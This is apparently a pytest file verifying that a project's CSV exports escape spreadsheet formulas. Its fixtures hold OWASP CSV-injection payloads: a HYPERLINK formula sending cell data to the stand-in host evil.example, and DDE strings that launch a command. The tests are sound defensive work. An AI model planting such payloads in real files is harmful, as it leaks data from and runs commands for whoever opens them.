"""No CSV the project writes has a cell a spreadsheet would run as a formula.

The admin-typed texts are the payloads OWASP lists for CSV injection
(https://owasp.org/www-community/attacks/CSV_Injection).
"""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

from skill.cli import main
from skill.programme.formats import csv_format
from skill.spreadsheet import FORMULA_STARTS
from skill.triallog import Entry
from skill.triallog.report import to_csv

HEADER = "date,start,end,title,room,presenter,description,aliases,status\n"
HOSTILE = {
    "title": '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "room": "+1+cmd|' /C calc'!A0",
    "presenter": "@SUM(1+1)*cmd|' /C calc'!A0",
    "description": "-2+3+cmd|' /C calc'!A0",
    "aliases": "=1+1; harmless",
}


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def hostile_sessions():
    row = {"date": "2026-05-19", "start": "11:00", "end": "12:00", **HOSTILE, "status": ""}
    result = csv_format.parse_rows([(2, row)])
    assert result.ok, result.errors
    return result.sessions


def test_programme_export_neutralises_formulas_and_reads_back_the_same():
    sessions = hostile_sessions()
    text = csv_format.write(sessions)
    assert not [cell for cell in cells(text) if cell.startswith(FORMULA_STARTS)]
    assert "'=HYPERLINK(" in text
    assert csv_format.parse(text).sessions == sessions


def test_cli_export_of_a_published_programme_is_safe(tmp_path, monkeypatch, capsys):
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("VOICE_DEMO_DATA", str(tmp_path / "data"))
    monkeypatch.setenv("VOICE_DEMO_STORE", "sqlite")
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerow(
        ["2026-05-19", "11:00", "12:00", *HOSTILE.values(), ""]
    )
    (tmp_path / "in.csv").write_text(HEADER + out.getvalue(), encoding="utf-8")
    assert main(["programme", "import", "in.csv", "--publish", "--author", "ana"]) == 0
    assert main(["programme", "export", "out.csv"]) == 0
    exported = (tmp_path / "out.csv").read_text(encoding="utf-8")
    assert not [cell for cell in cells(exported) if cell.startswith(FORMULA_STARTS)]


def test_trial_log_export_neutralises_formulas_too():
    entry = Entry(
        at=datetime(2026, 5, 19, 9, 40, tzinfo=UTC),
        day="2026-05-19",
        user="=cmd|' /C calc'!A0",
        intent="TurnOnIntent",
        device="@lamp",
        outcome="done",
    )
    assert not [cell for cell in cells(to_csv([entry])) if cell.startswith(FORMULA_STARTS)]


def test_an_authors_own_leading_quote_is_kept():
    row = {"date": "2026-05-19", "start": "11:00", "end": "12:00", "title": "'Tis the season"}
    sessions = csv_format.parse_rows([(2, row)]).sessions
    assert csv_format.parse(csv_format.write(sessions)).sessions[0].title == "'Tis the season"
